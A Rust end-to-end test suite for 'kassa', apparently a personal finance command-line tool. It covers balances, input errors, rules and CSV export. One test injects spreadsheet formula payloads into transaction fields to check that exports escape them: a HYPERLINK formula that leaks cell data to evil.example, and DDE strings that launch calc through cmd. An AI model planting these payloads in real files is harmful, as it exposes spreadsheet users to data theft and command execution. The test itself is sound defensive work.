//! End-to-end: the real `kassa` binary on SQLite and (when configured)
//! PostgreSQL, checked through its JSON output and exit codes.

mod common;

use common::{Kassa, databases};
use kassa_store::testing;
use serde_json::Value;

fn balances(k: &Kassa, extra: &[&str]) -> Vec<(String, String)> {
    let mut args = vec!["balance"];
    args.extend(extra);
    k.json(&args)
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["account"].as_str().unwrap().to_string(), r["balance"].as_str().unwrap().to_string()))
        .collect()
}

fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
    v.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect()
}

#[test]
fn round_trip_balances_as_of_and_rebuild() {
    for (db, k) in databases() {
        k.ok(&["init"]);
        k.ok(&["init"]); // idempotent
        k.ok(&[
            "account",
            "add",
            "Checking",
            "--kind",
            "checking",
            "--currency",
            "EUR",
            "--iban",
            "DE89 3704 0044 0532 0130 00",
        ]);
        k.ok(&["account", "add", "Savings", "--kind", "savings", "--currency", "EUR"]);
        k.ok(&[
            "tx",
            "add",
            "--account",
            "Checking",
            "--date",
            "2024-01-25",
            "--amount",
            "2500.00",
            "--description",
            "Salary ACME",
            "--category",
            "Salary",
        ]);
        k.ok(&[
            "tx",
            "add",
            "--account",
            "Checking",
            "--date",
            "2024-02-03",
            "--amount",
            "-12.34",
            "--description",
            "Coffee",
            "--category",
            "Eating Out:Coffee",
            "--counterparty",
            "Café Central",
        ]);
        k.ok(&[
            "transfer",
            "--from",
            "Checking",
            "--to",
            "Savings",
            "--date",
            "2024-02-10",
            "--amount",
            "1000",
            "--description",
            "Saving",
        ]);

        let now = pairs(&[("Checking", "1487.66"), ("Savings", "1000.00")]);
        assert_eq!(balances(&k, &[]), now, "{}", db.name);
        assert_eq!(
            balances(&k, &["--as-of", "2024-02-05"]),
            pairs(&[("Checking", "2487.66"), ("Savings", "0.00")]),
            "{}",
            db.name
        );
        assert_eq!(
            balances(&k, &["--as-of", "2024-01-01"]),
            pairs(&[("Checking", "0.00"), ("Savings", "0.00")]),
            "{}",
            db.name
        );

        let rows = k.json(&["tx", "list"]);
        let rows = rows.as_array().unwrap();
        assert_eq!(rows.len(), 4, "{}", db.name);
        let coffee = &rows[1];
        for field in [
            "id",
            "date",
            "account",
            "amount",
            "currency",
            "description",
            "category",
            "counterparty",
            "status",
            "external_id",
        ] {
            assert!(coffee.get(field).is_some(), "tx list JSON lacks {field}");
        }
        assert_eq!(coffee["amount"], "-12.34");
        assert_eq!(coffee["category"], "Eating Out:Coffee");
        assert_eq!(coffee["counterparty"], "Café Central");
        assert_eq!(rows[2]["category"], Value::Null);
        let filtered = k.json(&["tx", "list", "--account", "Savings"]);
        assert_eq!(filtered.as_array().unwrap().len(), 1);
        let csv = k.ok(&["tx", "list", "-o", "csv", "--search", "coffee"]);
        assert!(csv.starts_with("id,date,account,amount,currency,description,category"), "{csv}");
        assert_eq!(csv.lines().count(), 2);

        k.ok(&["rebuild"]);
        assert_eq!(balances(&k, &[]), now, "after rebuild on {}", db.name);
        assert_eq!(balances(&k, &["--as-of", "2024-02-05"]), pairs(&[("Checking", "2487.66"), ("Savings", "0.00")]));

        let events = k.json(&["events", "--limit", "3"]);
        let events = events.as_array().unwrap();
        assert_eq!(events.len(), 3);
        assert_eq!(events[2]["type"], "transaction_recorded");
        assert!(events[2]["actor"].as_str().unwrap().starts_with("cli:"));
        assert_eq!(events[2]["occurred_at"], "2024-02-10");
    }
}

#[test]
fn bad_input_is_one_line_nonzero_and_writes_nothing() {
    for (db, k) in databases() {
        k.ok(&["init"]);
        k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
        k.ok(&["account", "add", "Dollars", "--kind", "checking", "--currency", "USD"]);
        let log_before = k.json(&["events", "--limit", "1000"]);
        // Each case is one command line (split on spaces) and what its error must name.
        let cases = [
            (
                "tx add --account Chequing --date 2024-01-02 --amount 1 --description x",
                "'Chequing' (did you mean 'Checking'?)",
            ),
            (
                "tx add --account Checking --date 2024-01-02 --amount 1 --description x --category Grocerys",
                "'Grocerys' (did you mean 'Groceries'?)",
            ),
            ("tx add --account Checking --date 2024-02-30 --amount 1 --description x", "'2024-02-30'"),
            ("tx add --account Checking --date 2024-02-03 --amount 1.2.3 --description x", "'1.2.3'"),
            (
                "tx add --account Checking --date 2024-02-03 --amount 0.001 --description x",
                "more decimals than EUR allows",
            ),
            ("account add Euro --kind checking --currency EUX", "'EUX'"),
            (
                "account add Bad --kind checking --currency EUR --iban DE88370400440532013000",
                "'DE88370400440532013000'",
            ),
            ("account add Bad --kind chequing --currency EUR", "'chequing'"),
            ("transfer --from Checking --to Dollars --date 2024-01-02 --amount 10", "needs a rate"),
            ("transfer --from Checking --to Checking --date 2024-01-02 --amount 10", "two different accounts"),
            ("category add Food::Bad --section expense", "'Food::Bad'"),
        ];
        for (line, want) in cases {
            let args: Vec<&str> = line.split(' ').collect();
            let out = k.run(&args);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{args:?} succeeded on {}", db.name);
            assert_eq!(stderr.trim_end().lines().count(), 1, "{args:?}: not one line: {stderr}");
            assert!(stderr.contains(want), "{args:?}: '{stderr}' lacks {want}");
        }
        assert_eq!(
            k.json(&["events", "--limit", "1000"]),
            log_before,
            "a refused command wrote to the log on {}",
            db.name
        );
        let unknown_book = k.run(&["--book", "personl", "balance"]);
        assert!(String::from_utf8_lossy(&unknown_book.stderr).contains("did you mean 'personal'"));
    }
}

/// Issue 14: `kassa tx add` refuses an amount or a date outside kassa's
/// range naming the flag, writes nothing, and the book stays readable and
/// rebuildable; a sum that would leave the range is refused naming the account.
#[test]
fn tx_add_refuses_amounts_and_dates_outside_the_range() {
    for (db, k) in databases() {
        k.ok(&["init"]);
        k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
        let add = |date: &str, amount: &str| {
            let (date, amount) = (format!("--date={date}"), format!("--amount={amount}"));
            k.run(&["tx", "add", "--account", "Checking", &date, &amount, "--description", "edge"])
        };
        let log_before = k.json(&["events", "--limit", "1000"]);
        for (date, amount, flag, value) in [
            ("2024-01-02", "100000000000000000.00", "--amount", "100000000000000000.00"),
            ("2024-01-02", "792281625142643375935439503.35", "--amount", "792281625142643375935439503.35"),
            ("2024-01-02", "-79228162514264337593543950335", "--amount", "-79228162514264337593543950335"),
            ("-000001-12-31", "1.00", "--date", "-000001-12-31"),
            ("9999-12-31", "1.00", "--date", "9999-12-31"),
        ] {
            let out = add(date, amount);
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{date} {amount} accepted on {}", db.name);
            assert_eq!(stderr.trim_end().lines().count(), 1, "not one line: {stderr}");
            assert!(stderr.contains(flag) && stderr.contains(value), "'{stderr}' lacks {flag} and {value}");
            assert!(stderr.contains("range"), "'{stderr}' does not say why");
        }
        assert_eq!(k.json(&["events", "--limit", "1000"]), log_before, "a refused add wrote on {}", db.name);

        assert!(add("2024-01-02", "99999999999999.99").status.success(), "{}", db.name);
        let out = add("2024-01-03", "0.01");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && stderr.contains("Checking"), "{}: {stderr}", db.name);
        assert_eq!(balances(&k, &[]), pairs(&[("Checking", "99999999999999.99")]), "{}", db.name);
        k.ok(&["rebuild"]);
        assert_eq!(balances(&k, &[]), pairs(&[("Checking", "99999999999999.99")]), "{}", db.name);
        assert_eq!(k.json(&["tx", "list"])[0]["amount"], "99999999999999.99", "{}", db.name);
    }
}

#[test]
fn rules_dry_run_apply_undo_and_manual_wins_through_the_binary() {
    for (db, k) in databases() {
        k.ok(&["init"]);
        k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
        for (date, amount, text) in
            [("2024-03-01", "-54.20", "REWE SAGT DANKE 4411"), ("2024-03-02", "-3.10", "Cafe Central")]
        {
            k.ok(&["tx", "add", "--account", "Checking", "--date", date, "--amount", amount, "--description", text]);
        }
        let id = k.ok(&[
            "rules",
            "add",
            "Supermarket",
            "--if",
            "description:contains:rewe",
            "--outflow",
            "--set-category",
            "Groceries",
            "--tag",
            "food",
        ]);
        assert_eq!(id.trim(), "supermarket");
        let bad = k.run(&["rules", "add", "Typo", "--if", "description:contains:x", "--set-category", "Grocerys"]);
        assert!(String::from_utf8_lossy(&bad.stderr).contains("did you mean 'Groceries'"), "{}", db.name);

        let dry = k.json(&["rules", "apply", "--dry-run"]);
        assert_eq!(dry.as_array().unwrap().len(), 1);
        assert_eq!(dry[0]["to"], "Groceries");
        let rows = k.json(&["tx", "list"]);
        assert_eq!(rows[0]["category"], Value::Null, "a dry run changes nothing");
        let real = k.json(&["rules", "apply"]);
        assert_eq!(real, dry, "the real run does what the dry run showed ({})", db.name);
        let rows = k.json(&["tx", "list"]);
        assert_eq!(
            (&rows[0]["category"], &rows[0]["category_source"]),
            (&Value::from("Groceries"), &Value::from("rule"))
        );
        assert_eq!(rows[0]["suggestion"], Value::Null);

        // A manual choice sticks; the rule no longer touches it.
        let tx_id = rows[0]["id"].as_str().unwrap().to_string();
        k.ok(&["tx", "recategorize", &tx_id, "--category", "Shopping"]);
        assert_eq!(k.json(&["rules", "apply"]).as_array().unwrap().len(), 0);
        let rows = k.json(&["tx", "list"]);
        assert_eq!(
            (&rows[0]["category"], &rows[0]["category_source"]),
            (&Value::from("Shopping"), &Value::from("manual"))
        );

        let exported = k.ok(&["rules", "export"]);
        assert!(exported.contains("set_category = \"Groceries\""), "{exported}");
        k.ok(&["rules", "delete", "supermarket"]);
        assert_eq!(k.json(&["rules", "list"]).as_array().unwrap().len(), 0);
        let file = db_dir_file(&db, "rules.toml", &exported);
        k.ok(&["rules", "import", &file]);
        assert_eq!(k.json(&["rules", "list"]).as_array().unwrap().len(), 1, "{}", db.name);
    }
}

/// Writes `text` to a scratch file that lives as long as the test run.
fn db_dir_file(db: &testing::TestDb, name: &str, text: &str) -> String {
    let path = std::env::temp_dir().join(format!("kassa-{}-{}-{name}", db.name, uuid_like()));
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

fn uuid_like() -> u128 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos()
}

/// Text from a bank file or a form never reaches a spreadsheet as a
/// formula (issue 14): `-o csv` and `kassa export --format csv` escape it,
/// amounts stay numbers, and the export is private to its owner.
#[test]
fn csv_output_cannot_carry_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    for (db, k) in databases() {
        k.ok(&["init"]);
        k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
        for (description, counterparty) in [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"refund\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
        ] {
            k.ok(&[
                "tx",
                "add",
                "--account",
                "Checking",
                "--date",
                "2024-03-01",
                "--amount",
                "-12.50",
                &format!("--description={description}"),
                &format!("--counterparty={counterparty}"),
            ]);
        }
        let listed = k.ok(&["tx", "list", "-o", "csv"]);
        let path = dir.path().join(format!("{}.csv", db.name));
        k.ok(&["export", "--format", "csv", path.to_str().unwrap()]);
        let exported = std::fs::read_to_string(&path).unwrap();
        for (what, text) in [("tx list -o csv", &listed), ("export", &exported)] {
            let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
            let header = reader.headers().unwrap().clone();
            let column = |name: &str| header.iter().position(|h| h == name).unwrap();
            let (description, amount) = (column("description"), column("amount"));
            let mut rows = 0;
            for record in reader.records() {
                let record = record.unwrap();
                for cell in record.iter() {
                    let starts = cell.chars().next();
                    let numeric = cell.trim_start_matches('-').parse::<f64>().is_ok();
                    assert!(
                        !matches!(starts, Some('=' | '+' | '-' | '@' | '\t' | '\r')) || numeric,
                        "{}: {what} writes a formula cell {cell:?}\n{text}",
                        db.name
                    );
                }
                assert!(record[description].starts_with("'=") || record[description].starts_with("'+"), "{record:?}");
                assert!(matches!(&record[amount], "-12.50" | "12.50"), "{}: amounts stay numbers: {record:?}", db.name);
                rows += 1;
            }
            assert!(rows >= 2, "{}: {what}\n{text}", db.name);
        }
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{}: the export is readable by others", db.name);
        }
    }
}

/// `kassa … -o json | head`: a reader that goes away ends the listing
/// quietly with success; before, `print!` panicked on the broken pipe.
#[test]
fn a_listing_into_a_closed_pipe_ends_quietly() {
    let db = testing::sqlite();
    let k = Kassa { url: db.url.clone() };
    k.ok(&["init"]);
    k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
    let (reader, writer) = std::io::pipe().expect("pipe");
    // The read end is closed before kassa starts, so its first write fails.
    drop(reader);
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_kassa"))
        .args(["--db", &k.url, "account", "list", "-o", "json"])
        .env_remove("KASSA_BOOK")
        .stdout(writer)
        .output()
        .expect("run kassa");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "exit {:?}: {stderr}", out.status);
    assert!(!stderr.contains("panicked"), "{stderr}");
}
